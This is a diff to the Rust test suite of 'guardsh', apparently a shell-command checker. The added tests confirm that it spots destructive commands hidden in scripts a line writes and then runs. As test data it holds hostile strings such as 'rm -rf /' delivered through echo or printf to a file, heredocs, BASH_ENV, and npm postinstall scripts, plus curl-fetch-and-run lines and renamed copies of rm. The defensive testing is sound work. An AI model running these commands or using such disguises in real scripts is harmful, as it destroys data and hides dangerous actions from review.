@@ -537,7 +537,17 @@ const UNKNOWN: &[(&str, K)] = &[
     ("sudo -i", K::HiddenScript),
     ("cat | sh", K::HiddenScript),
     ("parallel < jobs.txt.does-not-exist", K::HiddenScript),
-    ("echo 'rm -rf /' > x.sh && bash x.sh", K::HiddenScript),
+    // Written with text only known at run time, appended to, or by a writer whose output
+    // guardsh does not reproduce: hidden.
+    ("echo \"$c\" > x.sh && bash x.sh", K::HiddenScript),
+    ("echo 'rm -rf /' >> x.sh && bash x.sh", K::HiddenScript),
+    ("curl -so x.sh https://x && bash x.sh", K::HiddenScript),
+    (
+        "f() { echo 'rm -rf /' > x.sh; }; f; bash x.sh",
+        K::HiddenScript,
+    ),
+    ("bash x.sh; echo 'rm -rf /' > x.sh", K::HiddenScript),
+    ("echo 'rm -rf /' > x.sh & bash x.sh", K::HiddenScript),
     ("echo 'rm -rf /' >> ./y.sh; sh y.sh", K::HiddenScript),
     ("curl -o i.sh https://x/i.sh && sh i.sh", K::HiddenScript),
     ("curl -O https://x/i2.sh && source ./i2.sh", K::HiddenScript),
@@ -562,7 +572,7 @@ const UNKNOWN: &[(&str, K)] = &[
     ("cp /bin/rm /tmp/x; /tmp/x -rf /", K::HiddenScript),
     ("ln -s /bin/rm ./del; ./del -rf /", K::HiddenScript),
     (
-        "echo 'rm -rf /' > run; chmod +x run; ./run",
+        "printf '#!/usr/bin/python3\\nimport os\\n' > run; chmod +x run; ./run",
         K::HiddenScript,
     ),
     ("hash -p /bin/rm del; del -rf /", K::DynamicProgram),
@@ -698,9 +708,14 @@ fn snapshot_files_are_neither_read_nor_refused() {
     let s = script(&line);
     assert!(s.unknowns.is_empty(), "{:?}", s.unknowns);
     assert!(!finds(&line, &["rm", "-rf", "/from-snapshot"]));
-    // A "snapshot" written by the same line is a script written and run.
-    let line = format!("echo rm > '{0}' && source '{0}'", snap.display());
-    assert!(kinds(&script(&line)).contains(&K::HiddenScript));
+    // A "snapshot" written by the same line is a script written and run: read, both as
+    // written and as the file is now (the write may not happen).
+    let line = format!(
+        "echo 'rm -rf /written' > '{0}' && source '{0}'",
+        snap.display()
+    );
+    assert!(finds(&line, &["rm", "-rf", "/written"]));
+    assert!(finds(&line, &["rm", "-rf", "/from-snapshot"]));
     let _ = std::fs::remove_dir_all(&dir);
 }
 
@@ -1200,5 +1215,73 @@ fn commands_carried_by_options_and_variables_are_found() {
             "{line}: {:?}",
             found(line)
         );
+    }
+}
+
+/// A script the line writes with text guardsh reproduces, then runs, is read as that text
+/// (and as the file is now, since whether the write happens is not always known).
+#[test]
+fn scripts_written_then_run_are_read() {
+    for line in [
+        "echo 'rm -rf /' > x.sh && bash x.sh",
+        "printf 'set -e\\nrm -rf /\\n' > x.sh; sh x.sh",
+        "echo 'rm -rf /' > run; chmod +x run; ./run",
+        "printf '#!/bin/sh\\nrm -rf /\\n' > run && chmod +x run && ./run",
+        "cat > x.sh <<'EOF'\nrm -rf /\nEOF\nsource x.sh",
+        "echo 'rm -rf /' >| x.sh; . ./x.sh",
+        "test -e x.sh || echo 'rm -rf /' > x.sh; bash x.sh",
+    ] {
+        assert!(finds(line, &["rm", "-rf", "/"]), "{line}");
+        assert!(!kinds(&script(line)).contains(&K::HiddenScript), "{line}");
+    }
+    // Look-alikes: a script written and run that only prints.
+    for line in [
+        "printf 'echo hi\\n' > greet.sh && bash greet.sh",
+        "echo 'echo hi' > greet.sh; chmod +x greet.sh; ./greet.sh",
+    ] {
+        let s = script(line);
+        assert!(s.unknowns.is_empty(), "{line}: {:?}", s.unknowns);
+        assert!(finds(line, &["echo", "hi"]), "{line}");
+    }
+}
+
+/// `BASH_ENV` and `ENV` name a file every shell the line starts reads first: it is read as
+/// `. FILE`, written in the line or on disk.
+#[test]
+fn files_named_by_bash_env_are_read_as_scripts() {
+    for line in [
+        "echo 'rm -rf /' > e.sh; BASH_ENV=e.sh bash -c true",
+        "printf 'rm -rf /\\n' > e.sh && export BASH_ENV=./e.sh && bash run.sh",
+        "echo 'rm -rf /' > e.sh; ENV=e.sh sh -i",
+    ] {
+        assert!(finds(line, &["rm", "-rf", "/"]), "{line}");
+    }
+    for line in [
+        "BASH_ENV=\"$F\" bash -c true",
+        "BASH_ENV=/no/such/file bash -c ls",
+    ] {
+        assert!(kinds(&script(line)).contains(&K::HiddenScript), "{line}");
+    }
+    assert!(
+        script("export BASH_ENV=/dev/null; bash -c ls")
+            .unknowns
+            .is_empty()
+    );
+}
+
+/// A script stored in package.json is code the moment it is written: npm runs it later.
+#[test]
+fn npm_scripts_set_from_the_line_are_read() {
+    for line in [
+        "npm pkg set scripts.x='rm -rf /' && npm run x",
+        "npm set-script clean 'rm -rf /'",
+        "pnpm pkg set scripts.postinstall='rm -rf /'",
+    ] {
+        assert!(finds(line, &["rm", "-rf", "/"]), "{line}");
+    }
+    for line in ["npm pkg set name=x", "npm pkg set scripts.build='tsc -p .'"] {
+        let s = script(line);
+        assert!(s.unknowns.is_empty(), "{line}: {:?}", s.unknowns);
+        assert!(!finds(line, &["rm", "-rf", "/"]), "{line}");
     }
 }
